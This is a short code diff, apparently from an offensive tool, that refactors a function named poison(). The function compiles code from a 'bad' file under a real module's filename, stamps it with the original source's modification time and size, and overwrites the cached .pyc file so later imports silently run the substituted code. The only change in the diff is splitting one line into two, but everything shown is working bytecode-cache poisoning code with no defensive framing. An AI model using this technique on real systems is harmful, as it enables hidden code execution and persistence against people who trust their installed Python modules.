@@ -72,7 +72,8 @@ def poison():
         if os.path.exists(target):
             os.chmod(target, 0o644)
         os.makedirs(os.path.dirname(target), exist_ok=True)
-        code = importlib._bootstrap_external._code_to_timestamp_pyc(compile(open(bad).read(), module.__file__, "exec"), int(status.st_mtime), status.st_size)
+        compiled = compile(open(bad).read(), module.__file__, "exec")
+        code = importlib._bootstrap_external._code_to_timestamp_pyc(compiled, int(status.st_mtime), status.st_size)
         with open(target, "wb") as stream:
             stream.write(code)
     return values()
